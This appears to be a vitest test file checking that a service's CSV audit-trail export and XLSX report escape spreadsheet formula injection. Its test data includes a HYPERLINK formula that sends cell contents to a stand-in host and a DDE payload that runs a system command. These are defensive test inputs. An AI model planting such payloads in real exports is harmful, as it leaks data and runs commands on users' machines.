import { inflateRawSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { startService } from '../service/app.ts'
import { ask } from '../service/requests.ts'
import { signedIn } from '../service/signed-in.ts'

const { app } = await startService()

/** What spreadsheets reckon, or hand on to the system. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
]

/** The lines of a CSV file as their cells. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))

test('no cell of the audit trail’s file is a formula, whatever somebody has called themselves', async () => {
  for (const name of formulas) await ask(app, 'POST', '/session', { name, password: 'x' })
  const { headers } = await signedIn(app, { role: 'audit-admin', department: 'approval-bureau' })
  const csv = async () => cellsOf((await app.inject({ url: '/audit-trail.csv', headers })).body)
  await expect
    .poll(async () => (await csv()).filter((cell) => cell === 'signIn').length)
    .toBe(formulas.length)
  const cells = await csv()
  for (const formula of formulas) expect(cells).toContain(`'${formula}`)
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
})

/** The entries of a ZIP archive as texts, by its central directory. */
function textsOf(archive: Buffer): Map<string, string> {
  const texts = new Map<string, string>()
  const end = archive.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'))
  let at = archive.readUInt32LE(end + 16)
  for (let left = archive.readUInt16LE(end + 10); left > 0; left -= 1) {
    const [method, packed] = [archive.readUInt16LE(at + 10), archive.readUInt32LE(at + 20)]
    const [name, extra, note] = [28, 30, 32].map((place) => archive.readUInt16LE(at + place)) as [
      number,
      number,
      number,
    ]
    const local = archive.readUInt32LE(at + 42)
    const from = local + 30 + archive.readUInt16LE(local + 26) + archive.readUInt16LE(local + 28)
    const content = archive.subarray(from, from + packed)
    const text = (method === 8 ? inflateRawSync(content) : content).toString()
    texts.set(archive.toString('utf8', at + 46, at + 46 + name), text)
    at += 46 + name + extra + note
  }
  return texts
}

test('no cell of the report’s workbook is a formula, whatever stands as evidence', async () => {
  const { headers } = await signedIn(app, {
    role: 'leading-group-office',
    department: 'reform-group-office',
  })
  const { clauses } = (await app.inject({ url: '/plan', headers })).json()
  for (const [index, evidence] of formulas.entries()) {
    const answer = await app.inject({
      method: 'POST',
      url: `/plan/clauses/${encodeURIComponent(clauses[index].id)}/progress`,
      headers,
      payload: { id: crypto.randomUUID(), status: 'done', evidence },
    })
    expect(answer.statusCode, answer.body).toBe(201)
  }
  const { rawPayload } = await app.inject({ url: '/plan/report.xlsx', headers })
  const texts = textsOf(rawPayload)
  const all = [...texts.values()].join('\n')
  // They are there, as texts.
  expect(all).toContain('=1+1')
  expect(all).toContain('@SUM(1)')
  const sheets = [...texts].filter(([name]) => name.startsWith('xl/worksheets/'))
  expect(sheets.length).toBeGreaterThan(1)
  for (const [name, sheet] of sheets) {
    expect(sheet, name).not.toMatch(/<f[\s>]/)
    // Cells with a letter or sign are told to be texts; what has no such word is a number.
    for (const [, attributes = '', value = ''] of sheet.matchAll(/<c ([^>]*)><v>([^<]*)<\/v>/g))
      if (!/t="/.test(attributes)) expect(value, name).toMatch(/^-?[\d.]+(e[+-]?\d+)?$/i)
  }
  expect([...texts.keys()].filter((name) => /externalLink|vbaProject|connections/i.test(name))).toEqual([])
})
